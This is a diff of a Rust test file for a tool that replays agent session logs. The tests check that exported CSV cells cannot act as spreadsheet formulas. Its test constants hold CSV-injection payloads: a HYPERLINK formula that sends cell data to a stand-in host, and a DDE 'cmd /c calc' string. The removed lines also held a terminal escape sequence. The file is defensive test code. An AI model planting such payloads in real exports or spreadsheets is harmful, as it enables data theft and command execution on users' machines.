@@ -2,35 +2,13 @@
 
 use crate::common;
 
-use common::{CommandFolder, jsonl};
-use serde_json::{Value, json};
+use common::CommandFolder;
 
 const SESSION: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
 const FACT: &str = "@SUM(1+1)*cmd|'/c calc'!A0";
-const AGENT: &str = "+agent\u{1b}[2J\u{7}";
 
 /// Two turns with a subagent, a fact and a compaction.
-fn hostile() -> String {
-    let call = |id: &str| json!([{"id": id, "name": "=read()", "arguments": "{}"}]);
-    let within = |mut line: Value| {
-        line["agent"] = json!(AGENT);
-        line
-    };
-    jsonl(&[
-        json!({"type": "session", "version": 1, "id": SESSION}),
-        json!({"type": "user", "id": "-u1", "text": "-1+1 is what?"}),
-        json!({"type": "assistant", "id": "-a1", "calls": call("=c1")}),
-        within(json!({"type": "user", "id": "=s1", "text": "=find it"})),
-        within(json!({"type": "assistant", "id": "=s2", "text": "-8443-it"})),
-        json!({"type": "tool", "call_id": "=c1", "output": "\t=2+5+cmd|' /C calc'!A0 \0 -8443-it"}),
-        json!({"type": "assistant", "id": "-a2", "text": "@done"}),
-        json!({"type": "compact"}),
-        json!({"type": "user", "id": "-u2", "text": "and again"}),
-        json!({"type": "assistant", "id": "-a3", "text": "-8443-it"}),
-        json!({"type": "fact", "id": FACT, "kind": "value", "tokens": ["-8443-it"],
-               "arises": "=c1", "needs": ["-u2"]}),
-    ])
-}
+const HOSTILE: &str = include_str!("../data/formulas.jsonl");
 
 /// Returns whether a cell is neither a formula nor a terminal sequence. Numbers may have a sign.
 fn is_harmless(cell: &str) -> bool {
@@ -41,8 +19,7 @@ fn is_harmless(cell: &str) -> bool {
 
 #[test]
 fn csv_cells_of_a_hostile_session_are_not_formulas() {
-    let here = CommandFolder::new();
-    here.write("hostile.jsonl", hostile());
+    let here = CommandFolder::with("hostile.jsonl", HOSTILE);
     let strategies = "--strategy reference --strategy codex --strategy keep-nothing";
     here.run(&format!("run hostile.jsonl {strategies} --transport direct --out out")).ok();
     here.run("report out --format csv -o csv --no-redact").ok();
@@ -70,8 +47,7 @@ fn csv_cells_of_a_hostile_session_are_not_formulas() {
 
 #[test]
 fn results_with_hostile_ids_work_with_every_command() {
-    let here = CommandFolder::new();
-    here.write("hostile.jsonl", hostile());
+    let here = CommandFolder::with("hostile.jsonl", HOSTILE);
     let run = "run hostile.jsonl --strategy codex --strategy none --transport direct --out";
     here.run(&format!("{run} out")).ok();
     here.run(&format!("{run} again")).ok();
@@ -80,5 +56,5 @@ fn results_with_hostile_ids_work_with_every_command() {
     here.run("compare out again").ok();
     here.run("explain again").arg(FACT).ok();
     // Machine-readable output contains the exact text.
-    assert_eq!(here.json("again/results.json")["runs"][0]["scenario"]["id"], SESSION);
+    assert_eq!(here.runs("again")[0]["scenario"]["id"], SESSION);
 }
